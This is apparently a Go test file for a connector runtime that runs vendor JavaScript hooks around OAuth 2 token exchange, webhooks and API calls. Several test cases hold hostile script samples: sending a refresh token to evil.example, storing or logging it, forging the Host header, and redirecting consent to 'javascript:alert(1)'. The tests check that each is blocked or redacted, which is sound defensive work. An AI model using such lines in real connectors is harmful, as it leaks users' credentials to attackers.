package connector_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"paceline"
	"paceline/connector"
	"paceline/script"
	"paceline/script/worker"
)

// eventDoc is a connector with an OAuth 2 vendor and a webhook, whose scripts a case gives.
const eventDoc = `apiVersion: connectors/v1
kind: Connector
metadata: {key: acme, uid: 6f1d0a3e-8f0b-4c53-9a39-2f3a1b6f7c10, name: Acme, version: 1.0.0}
allowedHosts: [acme.example, api.acme.example]
server: {baseUrl: "https://api.acme.example"}
auth: [{id: o, type: oauth2, grant: authorization_code, pkce: none, authorizeUrl: "https://acme.example/authorize", tokenUrl: "https://api.acme.example/token"}]
script: {source: %[1]s}
methods:
  - {id: get, name: Get, repeat: safe, request: {method: GET, path: /get}, script: {source: %[2]s}}
triggers:
  - {id: event, name: Event, type: webhook, verify: {type: none}, script: {source: %[2]s}}
`

// eventConnector gives each method and trigger the script ownScript.
func eventConnector(t *testing.T, connectorScript, ownScript string) *connector.Compiled {
	t.Helper()
	quoted := func(s string) string {
		if s == "" {
			s = "// nothing"
		}
		text, _ := json.Marshal(s)
		return string(text)
	}
	doc := fmt.Sprintf(eventDoc, quoted(connectorScript), quoted(ownScript))
	if script.Mentions(connectorScript+" "+ownScript, string(script.NextPage)) {
		doc = strings.Replace(doc, "methods:\n", `methods:
  - {id: pages, name: Pages, request: {method: GET, path: /get}, response: {rows: "[x]"}, paging: {type: script}, script: {source: `+quoted(ownScript)+`}}
`, 1)
	}
	def, problems := connector.Parse("acme", []byte(doc))
	if def == nil {
		t.Fatal(problems)
	}
	compiled, err := connector.Compile(def)
	if err != nil {
		t.Fatal(err)
	}
	return compiled
}

// tokenCases are the events of OAuth 2. The vendor is asked for a token with a code, or with a refresh token.
var tokenCases = map[string]struct {
	script  string
	refresh bool
	answer  string // of the vendor
	seen    string // what the vendor saw: header X, body
	grant   string // access token, refresh token
	code    paceline.Code
	detail  string
}{
	"before a token": {
		script: "function before_oauth2_token() { method_request.audience = 'x'; delete method_request.redirect_uri; method_request_headers.X = 'y' }",
		answer: `{"access_token":"a1","refresh_token":"r1"}`, seen: "y audience=x&code=the-code&grant_type=authorization_code", grant: "a1 r1",
	},
	"after a token": {
		script: "function after_oauth2_token() { method_response = { access_token: method_response.data.token, refresh_token: [typeof method_request, statusCode, method_response_headers['Content-Type']].join(' ') } }",
		answer: `{"data":{"token":"a1"}}`, seen: " code=the-code&grant_type=authorization_code&redirect_uri=https%3A%2F%2Fwe.example%2Fback", grant: "a1 undefined 200 application/json",
	},
	"before a refresh": {
		script: "function before_oauth2_refresh() { method_request.scope = 'all' } function before_oauth2_token() { throw new Error('not this one') }", refresh: true,
		answer: `{"access_token":"a2"}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token&scope=all", grant: "a2 old-refresh-token",
	},
	"after a refresh": {
		script: "function after_oauth2_refresh() { method_response.access_token += '!' }", refresh: true,
		answer: `{"access_token":"a2","refresh_token":"r2"}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token", grant: "a2! r2",
	},
	"a script cannot lose what the vendor gave": {
		script: "function after_oauth2_refresh() { throw new Error('too late') }", refresh: true,
		answer: `{"access_token":"a2","refresh_token":"r2"}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token", grant: "a2 r2",
	},
	"nor by what it leaves": {
		script: "function after_oauth2_refresh() { method_response = undefined }", refresh: true,
		answer: `{"access_token":"a2","refresh_token":"r2"}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token", grant: "a2 r2",
	},
	"a script tells what the vendor did not give": {
		script: "function after_oauth2_refresh() { throw new Error(method_response.why) }", refresh: true,
		answer: `{"why":"a strange vendor"}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token", code: paceline.CodeScriptFailed, detail: "after_oauth2_refresh, connector script, line 1",
	},
	"of many texts any may be a secret": {
		script: "function after_oauth2_refresh() { throw new Error('has ' + method_response.t.length) }", refresh: true,
		answer: `{"t":["` + strings.Repeat(`a long text","`, 20_000) + `"]}`, seen: " grant_type=refresh_token&refresh_token=old-refresh-token",
		code: paceline.CodeScriptFailed, detail: "REDACTED: REDACTED",
	},
	"false stops it": {
		script: "function before_oauth2_token() { return false }", code: paceline.CodeScriptStopped, detail: "before_oauth2_token returned false.",
	},
	"tokens are not told": {
		script: "function before_oauth2_refresh() { console.log(method_request); throw new Error('with ' + method_request.refresh_token) }", refresh: true,
		code: paceline.CodeScriptFailed, detail: "REDACTED",
	},
	"nor sent anywhere": {
		script: "function before_oauth2_refresh() { http_request({ url: 'https://evil.example/?' + method_request.refresh_token }) }", refresh: true,
		code: paceline.CodeScriptFailed, detail: "http_request is not available here",
	},
	"nor kept": {
		script: "function before_oauth2_refresh() { cyclr_storage_set('t', method_request.refresh_token) }", refresh: true,
		code: paceline.CodeScriptFailed, detail: "cyclr_storage_set is not available here",
	},
	"a header that is ours": {
		script: "function before_oauth2_token() { method_request_headers.Host = 'evil.example' }", code: paceline.CodeScriptFailed, detail: "may not set the header Host",
	},
}

func TestScriptsOfTokens(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	for name, c := range tokenCases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			compiled := eventConnector(t, c.script, "")
			seen := ""
			w := &web{answer: func(r *http.Request) (int, string) {
				seen = r.Header.Get("X") + " "
				return 200, c.answer
			}}
			runtime := connector.New(connector.Config{Transport: w, Scripts: pool})
			instance := &connector.Instance{
				Account: 1, Partner: 1, Compiled: compiled, Auth: compiled.Auth("o"), Client: connector.Client{ID: "me", Secret: "s3cret"},
				AuthValue: `{"AccessToken":"old","RefreshToken":"old-refresh-token"}`,
			}
			var grant connector.Grant
			var err error
			if c.refresh {
				grant, err = runtime.Obtain(t.Context(), instance)
			} else {
				grant, err = runtime.ExchangeCode(t.Context(), instance, "the-code", "", "https://we.example/back")
			}
			if len(w.seen) > 0 {
				seen += w.seen[0][strings.LastIndex(w.seen[0], " ")+1:]
			}
			if len(w.seen) > 1 || seen != c.seen {
				t.Errorf("the vendor saw %q (%d requests), want %q", seen, len(w.seen), c.seen)
			}
			failed, _ := errors.AsType[*connector.Error](err)
			switch {
			case c.code == "" && (err != nil || grant.AccessToken+" "+grant.RefreshToken != c.grant):
				t.Errorf("the grant is %q %q, %v; want %s", grant.AccessToken, grant.RefreshToken, err, c.grant)
			case c.code != "" && (failed == nil || failed.Code != c.code || !strings.Contains(failed.Detail, c.detail)):
				t.Errorf("failed with %v, want %s, %s", err, c.code, c.detail)
			case failed != nil && strings.Contains(failed.Detail+failed.Error(), "old-refresh-token"):
				t.Errorf("tells the token: %s, %v", failed.Detail, failed)
			}
		})
	}
}

func TestScriptsOfAConsent(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	for code, want := range map[string]string{
		"": "https://acme.example/authorize?client_id=me&redirect_uri=https%3A%2F%2Fwe.example%2Fback&response_type=code&state=st",
		"function before_oauth2_authorise() { method_endpoint = method_endpoint.replace('client_id', 'client_key') + '&x=1' }": "https://acme.example/authorize?client_key=me&redirect_uri=https%3A%2F%2Fwe.example%2Fback&response_type=code&state=st&x=1",
		"function before_oauth2_authorise() { method_endpoint = 'javascript:alert(1)' }":                                       "left no address",
		"function before_oauth2_authorise() { method_endpoint = 'http://acme.example/' }":                                      "left no address",
		"function before_oauth2_authorise() { method_endpoint = 'https://evil.example/' }":                                     "left no address",
		"function before_oauth2_authorise() { method_endpoint = { a: 1 } }":                                                    "left no address",
		"function before_oauth2_authorise() { return false }":                                                                  "returned false",
		"function before_oauth2_authorise() { throw new Error('no consent today') }":                                           "line 1, column 53: Error: no consent today",
	} {
		compiled := eventConnector(t, code, "")
		runtime := connector.New(connector.Config{Transport: &web{}, Scripts: pool})
		got, err := runtime.AuthorizeURL(t.Context(), &connector.Instance{
			Account: 1, Partner: 1, Compiled: compiled, Auth: compiled.Auth("o"), Client: connector.Client{ID: "me", Secret: "s3cret"},
		}, "st", "", "https://we.example/back")
		if failed, ok := errors.AsType[*connector.Error](err); ok {
			got = failed.Detail
		}
		if err == nil && got != want || err != nil && !strings.Contains(got, want) {
			t.Errorf("%s: %s, %v; want %s", code, got, err, want)
		}
	}
}

// TestScriptsOfWebhooks: the scripts of trigger, connector and step, in their order before and after.
func TestScriptsOfWebhooks(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	one := func(level string) string {
		return "function before_webhook() { method_request = [].concat(method_request, '" + level + "'); method_request_parameters.by = '" + level + "' }" +
			"function after_webhook() { method_response = [].concat(method_response, '" + level + "') }"
	}
	compiled := eventConnector(t, one("connector"), one("trigger"))
	runtime := connector.New(connector.Config{Transport: &web{}, Scripts: pool})
	scripts := &connector.WebhookScripts{
		Trigger: compiled.Trigger("event"), Instance: &connector.Instance{Account: 1, Partner: 1, Compiled: compiled}, Step: one("step"),
		Behalf: connector.Behalf{Partner: 1, Account: 1},
	}
	in, reply, err := runtime.BeforeWebhook(t.Context(), scripts, connector.Delivery{
		Method: "POST", Header: http.Header{"Content-Type": {"text/plain"}}, Query: url.Values{"a": {"1"}}, RawBody: []byte("hello"),
	})
	if err != nil || reply != nil {
		t.Fatal(reply, err)
	}
	if got, want := string(in.Document), `[{"body":"hello"},"trigger","connector","step"]`; got != want || in.Query.Encode() != "a=1&by=step" {
		t.Errorf("before: %s %s, want %s", got, in.Query.Encode(), want)
	}
	payload, err := in.Payload(scripts.Trigger)
	if err != nil {
		t.Fatal(err)
	}
	after, drop, err := runtime.AfterWebhook(context.Background(), scripts, payload)
	if want := `[{"body":"hello"},"trigger","connector","step","connector","trigger","step"]`; err != nil || drop || string(after) != want {
		t.Errorf("after: %s, %v, %v; want %s", after, drop, err, want)
	}
}

// renewals gives another access token each time.
type renewals struct{ n int }

func (r *renewals) Renew(_ context.Context, used *connector.Instance) (*connector.Instance, error) {
	r.n++
	next := &connector.Instance{Account: used.Account, Partner: used.Partner, Compiled: used.Compiled, Auth: used.Auth, Client: used.Client,
		AuthValue: fmt.Sprintf(`{"AccessToken":"token-%d","RefreshToken":"r"}`, r.n)}
	return next, nil
}

// TestScriptsRenewTheCredential: AuthRefreshException has the call made once more with a new token, and no more often.
func TestScriptsRenewTheCredential(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	for name, c := range map[string]struct {
		throw   string
		answers []string
		seen    string
		output  string
		code    paceline.Code
	}{
		"once":        {"throw new AuthRefreshException('expired')", []string{`{"error":"expired"}`, `{"ok":true}`}, "token-0 token-1", `{"ok":true}`, ""},
		"without new": {"throw AuthRefreshException", []string{`{"error":"expired"}`, `{"ok":true}`}, "token-0 token-1", `{"ok":true}`, ""},
		"not twice":   {"throw new AuthRefreshException()", []string{`{"error":"expired"}`, `{"error":"expired"}`, `{"ok":true}`}, "token-0 token-1", "", paceline.CodeScriptFailed},
		"no session":  {"throw new AuthSessionException()", []string{`{"error":"expired"}`, `{"ok":true}`}, "token-0", "", paceline.CodeScriptFailed},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			compiled := eventConnector(t, "function after_action() { if (method_response.error) "+c.throw+" }", "")
			var seen []string
			w := &web{answer: func(r *http.Request) (int, string) {
				seen = append(seen, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
				return 200, c.answers[len(seen)-1]
			}}
			keeper := &renewals{}
			runtime := connector.New(connector.Config{Transport: w, Scripts: pool, Renewer: keeper})
			result, err := runtime.Call(t.Context(), connector.Call{
				Instance: &connector.Instance{Account: 1, Partner: 1, Compiled: compiled, Auth: compiled.Auth("o"), Client: connector.Client{ID: "me", Secret: "s3cret"},
					AuthValue: `{"AccessToken":"token-0","RefreshToken":"r"}`},
				Method: compiled.Method("get"),
			})
			code := paceline.Code("")
			if failed, ok := errors.AsType[*connector.Error](err); ok {
				code = failed.Code
			} else if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(seen, " "); got != c.seen || code != c.code || c.code == "" && string(result.Output) != c.output {
				t.Errorf("the remote saw %q; output %s, %q (%v); want %q, %s, %q", got, result.Output, code, err, c.seen, c.output, c.code)
			}
		})
	}
}

// promised are the names that scripts written for other systems expect of each event.
var promised = map[script.Event]string{
	script.BeforeWebhook:         "method_endpoint method_request_headers method_request method_request_parameters method_response_headers method_response script_parameters",
	script.AfterWebhook:          "method_response script_parameters action_data",
	script.BeforeAction:          "method_request_headers method_request_parameters method_request method_request_mergefields method_auth_value last_successful_run_date " + everywhere,
	script.AfterAction:           "method_endpoint method_request method_request_mergefields method_response_headers method_response statusCode reasonPhrase " + everywhere,
	script.AfterActionPaging:     "method_endpoint method_request method_request_mergefields method_response_headers method_response statusCode reasonPhrase next_last_successful_run_date " + everywhere,
	script.AfterError:            "method_error " + everywhere,
	script.ActionCondition:       "method_response " + everywhere,
	script.NextPage:              "method_response page_number " + everywhere,
	script.BeforeOAuth2Authorise: "method_endpoint script_parameters",
	script.BeforeOAuth2Token:     "method_request_headers method_request script_parameters",
	script.AfterOAuth2Token:      "method_response_headers method_response script_parameters",
	script.BeforeOAuth2Refresh:   "method_request_headers method_request script_parameters",
	script.AfterOAuth2Refresh:    "method_response_headers method_response script_parameters",
}

// everywhere are the names of every event of a call, also where it is made outside of a cycle.
const everywhere = "action_data script_parameters cycle_id cycle_step_id cyclr_account_id external_account_id transaction_id cycle_variables script_execution_context " +
	"method_response_fields method_response_fields_in_use method_response_parameters_in_use"

// answering is a remote whose answer leads to the event.
func answering(event script.Event) *web {
	status := 200
	if event == script.AfterError {
		status = 400
	}
	return &web{answer: func(*http.Request) (int, string) { return status, `{"x":1}` }}
}

// fire does what leads to the event, for a connector of eventConnector and a step with a script.
func fire(ctx context.Context, runtime *connector.Runtime, instance *connector.Instance, event script.Event, step string) (err error) {
	call := connector.Call{Instance: instance, Method: instance.Compiled.Method("get"), Script: connector.ScriptCall{Step: step}}
	webhook := &connector.WebhookScripts{Trigger: instance.Compiled.Trigger("event"), Instance: instance, Step: step, Behalf: connector.Behalf{Partner: 1, Account: 1}}
	switch event {
	case script.BeforeWebhook:
		_, _, err = runtime.BeforeWebhook(ctx, webhook, connector.Delivery{Method: "GET"})
	case script.AfterWebhook:
		_, _, err = runtime.AfterWebhook(ctx, webhook, json.RawMessage("{}"))
	case script.BeforeOAuth2Authorise:
		_, err = runtime.AuthorizeURL(ctx, instance, "st", "", "https://we.example/back")
	case script.BeforeOAuth2Token, script.AfterOAuth2Token:
		_, err = runtime.ExchangeCode(ctx, instance, "code", "", "https://we.example/back")
	case script.BeforeOAuth2Refresh, script.AfterOAuth2Refresh:
		_, err = runtime.Obtain(ctx, instance)
	default:
		if event == script.NextPage {
			call.Method = instance.Compiled.Method("pages")
		}
		var result connector.Result
		result, err = runtime.Call(ctx, call)
		if err == nil && event == script.AfterActionPaging {
			_, err = runtime.AfterPaging(ctx, call, &result)
		} else if err == nil {
			_, _, err = runtime.Condition(ctx, call, &result)
		}
	}
	return err
}

// TestGlobalsAreDeclared: docs/scripts.d.ts declares what events give scripts, neither more nor less.
func TestGlobalsAreDeclared(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	doc, err := os.ReadFile("../docs/scripts.d.ts")
	if err != nil {
		t.Fatal(err)
	}
	declared := map[string]bool{}
	for _, m := range regexp.MustCompile(`(?m)^declare (?:var|const) (\w+):`).FindAllStringSubmatch(string(doc), -1) {
		switch m[1] {
		case "paceline", "console", "crypto", "moment", "CryptoJS", "AuthRefreshException", "AuthSessionException":
		default:
			declared[m[1]] = false
		}
	}
	for _, event := range script.Events() {
		compiled := eventConnector(t, fmt.Sprintf("/* method_response_fields */ function %s() { throw new Error(Object.keys(globalThis).join(' ')) }", event), "")
		compiled.Definition.Script.AuthValue = true
		runtime := connector.New(connector.Config{Transport: answering(event), Scripts: pool})
		instance := &connector.Instance{
			Account: 1, Partner: 1, Compiled: compiled, Auth: compiled.Auth("o"), Client: connector.Client{ID: "me", Secret: "s3cret"},
			AuthValue: `{"AccessToken":"old-access-token","RefreshToken":"old-refresh-token"}`,
		}
		err := fire(t.Context(), runtime, instance, event, "")
		failed, ok := errors.AsType[*connector.Error](err)
		if !ok || !strings.Contains(failed.Detail, "Error: ") {
			t.Errorf("%s did not run: %v", event, err)
			continue
		}
		said := failed.Detail
		text, _, _ := strings.Cut(failed.Detail[strings.Index(failed.Detail, "Error: ")+len("Error: "):], "\r")
		for name := range strings.FieldsSeq(promised[event]) {
			if !slices.Contains(strings.Fields(text), name) {
				t.Errorf("%s has no %s: %s", event, name, said)
			}
		}
		for name := range strings.FieldsSeq(text) {
			if _, known := declared[name]; !known && name != string(event) {
				t.Errorf("%s gives %s, which docs/scripts.d.ts does not declare", event, name)
			}
			if name != string(event) {
				declared[name] = true
			}
		}
	}
	for name, seen := range declared {
		if !seen {
			t.Errorf("docs/scripts.d.ts declares %s, which no event has", name)
		}
	}
}

// faults are what scripts can do wrong, and where they are told. EVENT is the name of the event.
var faults = map[string]struct {
	code         string
	line, column int
	said         string
}{
	"thrown":       {"\n// before it\nfunction EVENT() {\n  var it = 1;\n    throw new Error('not today');\n}", 5, 20, "Error: not today"},
	"a name":       {"function EVENT() {\n  return nowhere.at.all;\n}", 2, 10, "ReferenceError: 'nowhere' is not defined"},
	"deeper":       {"function EVENT() { inner(); }\nfunction inner() {\n  undefined.x;\n}", 3, 12, "TypeError: cannot read property"},
	"no statement": {"function EVENT() {\n  var = 7;\n}", 2, 7, "SyntaxError: "},
}

// TestErrorsTellTheirPlace: whatever the event and whoever wrote the script, an error tells the level, line and column.
func TestErrorsTellTheirPlace(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	for _, event := range script.Events() {
		levels := []string{script.LevelConnector, script.LevelMethod, script.LevelStep}
		if strings.Contains(string(event), "oauth2") {
			levels = levels[:1] // no other script has them
		}
		for _, level := range levels {
			for name, c := range faults {
				t.Run(fmt.Sprint(event, " ", level, " ", name), func(t *testing.T) {
					t.Parallel()
					codes := map[string]string{}
					for _, l := range levels {
						codes[l] = fmt.Sprintf("// nothing for %s\n", event)
					}
					codes[level] = strings.ReplaceAll(c.code, "EVENT", string(event))
					compiled := eventConnector(t, codes[script.LevelConnector], codes[script.LevelMethod])
					instance := &connector.Instance{
						Account: 1, Partner: 1, Compiled: compiled, Auth: compiled.Auth("o"), Client: connector.Client{ID: "me", Secret: "s3cret"},
						AuthValue: `{"AccessToken":"old-access-token","RefreshToken":"old-refresh-token"}`,
					}
					runtime := connector.New(connector.Config{Transport: answering(event), Scripts: pool})
					err := fire(t.Context(), runtime, instance, event, codes[script.LevelStep])
					want := fmt.Sprintf("%s, %s script, line %d, column %d: %s", event, level, c.line, c.column, c.said)
					failed, ok := errors.AsType[*connector.Error](err)
					if !ok {
						t.Fatalf("failed with %v, want %s", err, want)
					}
					if !strings.HasPrefix(failed.Detail, want) {
						t.Errorf("failed with %s, want %s", failed.Detail, want)
					}
				})
			}
		}
	}
}
